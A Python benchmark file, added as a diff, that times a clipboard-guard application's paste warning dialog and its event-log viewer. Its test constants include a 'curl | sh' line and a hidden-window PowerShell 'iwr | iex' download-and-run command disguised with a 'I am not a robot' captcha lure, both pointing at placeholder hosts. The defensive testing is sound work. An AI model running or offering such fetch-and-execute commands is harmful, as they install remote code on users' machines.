@@ -1,0 +1,352 @@
+"""Desktop UI figures: the warning up and focused after Ctrl+V, the log viewer over 100,000 events.
+
+The warning is timed twice: end to end on a real X desktop (Xvfb + openbox, the guard as a
+process, xterm in front, Ctrl+V by xdotool) and in-process from the hook thread's call to the
+dialog being shown. The viewer runs in-process on the offscreen platform over a
+store of 100,000 events built like the event-store benchmark's.
+"""
+
+from __future__ import annotations
+
+import os
+import sqlite3
+import statistics
+import subprocess
+import tempfile
+import threading
+import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+from app.platform.base import KeyEvent, WindowInfo
+from app.storage import EventStore
+from app.storage.rows import to_us
+from bench.report import Result, met, table
+from bench.store import build_big
+from tests.desktop import BIN, Desktop, desktop, wait_for
+
+WARNING_TARGET_MS = 200.0
+OPEN_TARGET_MS = 1000.0
+FILTER_TARGET_MS = 100.0
+EVENTS = 100_000
+ROUNDS = 15  # warnings on the real desktop
+LOCAL_ROUNDS = 30  # warnings in-process
+PAGES = 30  # pages scrolled
+SUSPICIOUS = "curl -fsSL https://unknown-vendor.example/install-{n}.sh | sh"
+MALICIOUS = (
+    'powershell -w h -c "iwr https://x.example/a.ps1 | iex"' + " " * 60 + "# I am not a robot"
+)
+RUN_BOX = WindowInfo("explorer.exe", "#32770", "Run")
+
+
+def _ms(seconds: float) -> str:
+    return f"{seconds * 1000:.0f} ms"
+
+
+def _p95(values: list[float]) -> float:
+    ordered = sorted(values)
+    return ordered[min(len(ordered) - 1, round(0.95 * (len(ordered) - 1)))]
+
+
+# -- the warning on a real X desktop --------------------------------------------------------
+
+
+def _active_name(d: Desktop) -> str:
+    return d.run("xdotool", "getactivewindow", "getwindowname", timeout=5).stdout.strip()
+
+
+def _warning_on_x(tmp: Path) -> list[float]:
+    """Seconds from Ctrl+V (xdotool, into xterm) to the warning being the active window."""
+    data = tmp / "data"
+    times: list[float] = []
+    with desktop() as d, (tmp / "guard.log").open("wb") as log:
+        d.env.update(PASTEGUARD_CONFIG_DIR=str(tmp / "cfg"), PASTEGUARD_POLICY=str(tmp / "none"))
+        d.start(
+            str(BIN / "pasteguard"),
+            "run",
+            "--no-tray",
+            "--data-dir",
+            str(data),
+            stdout=log,
+            stderr=log,
+        )
+        wait_for(
+            lambda: (
+                d.run(str(BIN / "pasteguard"), "status", "--data-dir", str(data)).returncode == 0
+            ),
+            timeout=30,
+            step=0.1,
+        )
+        paste_key = "XTerm*VT100.Translations: #override Ctrl Shift <Key>V: " + (
+            "insert-selection(CLIPBOARD)"
+        )
+        d.start("xterm", "-xrm", paste_key, "-e", "bash", "--norc", stderr=subprocess.DEVNULL)
+        wait_for(lambda: d.run("xdotool", "search", "--class", "xterm").stdout.strip(), timeout=10)
+        for n in range(ROUNDS):
+            d.set_clipboard(SUSPICIOUS.format(n=n))
+            time.sleep(0.4)  # the verdict is ready long before a person could paste
+            d.run("xdotool", "search", "--class", "xterm", "windowactivate", "--sync")
+            begin = time.monotonic()
+            d.run("xdotool", "key", "ctrl+shift+v")
+            wait_for(lambda: "PasteGuard warning" in _active_name(d), timeout=5, step=0.0)
+            times.append(time.monotonic() - begin)
+            d.run("xdotool", "key", "Escape")
+            wait_for(lambda: "PasteGuard warning" not in _active_name(d), timeout=5, step=0.01)
+    return times
+
+
+# -- in-process: the guard, the warning and the viewer --------------------------------------
+
+
+@contextmanager
+def _profile(tmp: Path) -> Iterator[None]:
+    """A private profile and the offscreen platform for the in-process part."""
+    saved = {
+        k: os.environ.get(k)
+        for k in (
+            "PASTEGUARD_CONFIG_DIR",
+            "PASTEGUARD_POLICY",
+            "PASTEGUARD_BACKEND",
+            "QT_QPA_PLATFORM",
+        )
+    }
+    os.environ.update(
+        PASTEGUARD_CONFIG_DIR=str(tmp / "cfg"),
+        PASTEGUARD_POLICY=str(tmp / "policy.toml"),
+        PASTEGUARD_BACKEND="none",
+    )
+    os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")
+    (tmp / "policy.toml").write_text('mode = "warn"\n', encoding="utf-8")
+    try:
+        yield
+    finally:
+        for key, value in saved.items():
+            if value is None:
+                os.environ.pop(key, None)
+            else:
+                os.environ[key] = value
+
+
+def _qt() -> Any:
+    from PySide6.QtWidgets import QApplication
+
+    from ui.refcounts import keep_alive
+
+    app = QApplication.instance() or QApplication([])
+    keep_alive(app)  # WORKAROUND for PySide6 6.12.0: see ui/refcounts.py
+    return app
+
+
+def _pump_until(check: Callable[[], bool], timeout: float = 5.0) -> None:
+    qt = _qt()
+    deadline = time.monotonic() + timeout
+    while not check():
+        if time.monotonic() > deadline:
+            raise TimeoutError("the UI did not get there in time")
+        qt.processEvents()
+        time.sleep(0.0002)  # an event loop waits for events; spinning flat out is no measure
+
+
+def _warning_local(tmp: Path) -> list[float]:
+    """Seconds from the hook thread's key call to the dialog shown."""
+    from PySide6.QtCore import QMimeData
+    from PySide6.QtGui import QClipboard, QGuiApplication
+
+    from ui.application import GuardApp
+
+    qt = _qt()
+    guard = GuardApp(qt, tmp / "guard-data", use_tray=False)
+    guard.service.can_suppress_keys = True
+    guard.service.foreground = lambda: RUN_BOX
+    times: list[float] = []
+    try:
+        for n in range(LOCAL_ROUNDS):
+            data = QMimeData()
+            data.setText(MALICIOUS + f" {n}")
+            data.setData("chromium/x-source-url", b"https://captcha.example/verify")
+            QGuiApplication.clipboard().setMimeData(data, QClipboard.Mode.Clipboard)
+            qt.processEvents()
+            guard.service.process_pending()
+
+            def hook(now: float = time.monotonic()) -> None:
+                guard.service.on_key(KeyEvent("ctrl", True, frozenset({"ctrl"}), now))
+                guard.service.on_key(KeyEvent("v", True, frozenset({"ctrl"}), now + 0.01))
+
+            begin = time.perf_counter()
+            threading.Thread(target=hook).start()
+            # visible, activation asked for (the offscreen platform activates a window on its
+            # first showing only; the real desktop row above times the activation itself)
+            _pump_until(guard.warning.isVisible)
+            times.append(time.perf_counter() - begin)
+            guard.warning.reject()  # Esc: keep me safe
+            guard.service.process_pending()
+            qt.processEvents()
+    finally:
+        guard.stop()
+        # the clipboard owns the QMimeData made here; freed after Python is gone, it crashes
+        QGuiApplication.clipboard().clear(QClipboard.Mode.Clipboard)
+    return times
+
+
+def _big_store(folder: Path) -> None:
+    """100,000 events over a year whose newest is now, so the chart's 90 days hold some."""
+    build_big(folder, EVENTS)
+    conn = sqlite3.connect(folder / "events.db", isolation_level=None)
+    newest = conn.execute("SELECT max(time) FROM events").fetchone()[0]
+    conn.execute("UPDATE events SET time = time + ?", (to_us(datetime.now(UTC)) - newest,))
+    conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")  # as the store's own housekeeping leaves it
+    conn.close()
+
+
+def _viewer(folder: Path) -> tuple[list[list[object]], list[str]]:
+    from ui.viewer import ViewerWindow
+
+    qt = _qt()
+    rows: list[list[object]] = []
+    begin = time.perf_counter()
+    _big_store(folder)
+    opened = time.perf_counter()
+    store = EventStore.open(folder, verify=False)  # as `pasteguard viewer` opens it
+    window = ViewerWindow(store, allow_delete=True)
+    window.show()
+    _pump_until(lambda: "events match" in window.count_label.text())
+    window.repaint()
+    shown = time.perf_counter()
+    total = store.count()
+    rows.append(
+        [
+            "open: store, window, first page, count and chart painted",
+            _ms(shown - opened),
+            f"≤ {OPEN_TARGET_MS:.0f} ms",
+            met((shown - opened) * 1000 <= OPEN_TARGET_MS),
+        ]
+    )
+    filters = window.filters
+    cases: list[tuple[str, Callable[[], None]]] = [
+        ("level = malicious", lambda: filters.level.setCurrentIndex(1)),
+        ("level = suspicious or worse", lambda: filters.level.setCurrentIndex(2)),
+        ("+ kind = paste warned", lambda: filters.select(filters.kind, "paste_warned")),
+        ("+ target = terminal", lambda: filters.select(filters.target, "terminal")),
+        ("last 7 days, any level/kind/target", lambda: _set(filters, period=7.0)),
+        ("search a common word (`powershell`)", lambda: _set(filters, text="powershell")),
+        ("search a rare string (`ID: 4242 `)", lambda: _set(filters, text="ID: 4242 ")),
+        ("search a string found nowhere", lambda: _set(filters, text="no-such-text-anywhere")),
+        ("back to everything", lambda: _set(filters)),
+    ]
+    worst_table = worst_all = 0.0
+    for name, change in cases:
+        start = time.perf_counter()
+        change()  # the table is refilled at once; the count and chart wait for the next turn
+        window.table.viewport().repaint()
+        painted = time.perf_counter()
+        window._stats.stop()
+        window.update_stats()
+        qt.processEvents()
+        done = time.perf_counter()
+        worst_table = max(worst_table, painted - start)
+        worst_all = max(worst_all, done - start)
+        shown_ms = (painted - start) * 1000
+        rows.append(
+            [
+                f"filter: {name} ({window.model.rowCount()} shown)",
+                f"{shown_ms:.0f} ms (with count and chart {_ms(done - start)})",
+                f"≤ {FILTER_TARGET_MS:.0f} ms",
+                met(shown_ms <= FILTER_TARGET_MS),
+            ]
+        )
+    laps = []
+    for _ in range(PAGES):
+        start = time.perf_counter()
+        window.table.scrollToBottom()
+        qt.processEvents()  # Qt asks canFetchMore/fetchMore and paints the new rows
+        laps.append(time.perf_counter() - start)
+    scroll_p95 = _p95(laps)
+    where = f"p95 of {PAGES}, to row {window.model.rowCount():,}"
+    rows.append(
+        [
+            f"scroll: the next page at the bottom ({where})",
+            f"{_ms(scroll_p95)} (median {_ms(statistics.median(laps))}, max {_ms(max(laps))})",
+            f"≤ {FILTER_TARGET_MS:.0f} ms",
+            met(scroll_p95 * 1000 <= FILTER_TARGET_MS),
+        ]
+    )
+    window.close()
+    store.close()
+    notes = [
+        f"A store of {total:,} events over a year (the event-store benchmark's fill, shifted to "
+        f"end now), opened as `pasteguard viewer` opens it; building it took "
+        f"{opened - begin:.1f} s and is not counted. Offscreen Qt platform, window 1180×760.",
+        "A filter refills the table with its first page at once; the count and the chart of the "
+        "last 90 days by level follow right after the table is painted (so they never delay "
+        "it), and are shown in brackets. Free-text search scans without an index (deleted text "
+        "must leave no trace), so a rare string costs a full scan; typing waits 300 ms first.",
+        f"Worst filter: table {_ms(worst_table)}, with count and chart {_ms(worst_all)}.",
+    ]
+    return rows, notes
+
+
+def _set(filters: Any, period: float | None = None, text: str = "") -> None:
+    """Everything back to "any", then `period` and `text`: one filter change, as a person's."""
+    filters.blockSignals(True)
+    for box in (filters.level, filters.kind, filters.target):
+        box.setCurrentIndex(0)
+    filters.select(filters.period, period)
+    filters.search.setText(text)
+    filters.stop()  # the typing pause is the person's, not the program's
+    filters.blockSignals(False)
+    filters.changed.emit()
+
+
+def run() -> list[Result]:
+    with tempfile.TemporaryDirectory(prefix="pasteguard-bench-ui-") as tmp:
+        root = Path(tmp)
+        (root / "x").mkdir()
+        on_x = _warning_on_x(root / "x")
+        with _profile(root):
+            local = _warning_local(root)
+            viewer_rows, viewer_notes = _viewer(root / "viewer")
+    x_p95, local_p95 = _p95(on_x), _p95(local)
+    warning_rows = [
+        [
+            "warning, real X desktop: Ctrl+V → active window, p95",
+            f"{_ms(x_p95)} (median {_ms(statistics.median(on_x))}, max {_ms(max(on_x))})",
+            f"≤ {WARNING_TARGET_MS:.0f} ms",
+            met(x_p95 * 1000 <= WARNING_TARGET_MS),
+        ],
+        [
+            "warning, in-process: hook call → dialog shown, p95",
+            f"{_ms(local_p95)} (median {_ms(statistics.median(local))}, max {_ms(max(local))})",
+            f"≤ {WARNING_TARGET_MS:.0f} ms",
+            met(local_p95 * 1000 <= WARNING_TARGET_MS),
+        ],
+    ]
+    headers = ["measurement", "value", "target", "met?"]
+    return [
+        Result(
+            "Desktop UI: the warning",
+            table(headers, warning_rows, "lllc"),
+            [
+                f"Real desktop: Xvfb + openbox, the guard as a process (`pasteguard run "
+                f"--no-tray`, X11 backend: it holds the clipboard and refuses the paste), xterm in "
+                f"front; {ROUNDS} suspicious texts pasted with `xdotool key ctrl+shift+v`, timed "
+                "from launching xdotool to `xdotool getactivewindow` naming the warning (polled "
+                "back to back, each poll a few ms), then Esc. In-process: "
+                f"{LOCAL_ROUNDS} malicious texts in warn mode; a thread calls the hook as pynput "
+                "would, and the Qt loop runs until the dialog is shown (filled, raised, activation "
+                "asked for; the offscreen platform activates a window only when first shown).",
+            ],
+        ),
+        Result(
+            f"Desktop UI: the log viewer over {EVENTS:,} events",
+            table(headers, viewer_rows, "lllc"),
+            viewer_notes,
+        ),
+    ]
+
+
+if __name__ == "__main__":  # pragma: no cover
+    for result in run():
+        print(result.markdown())
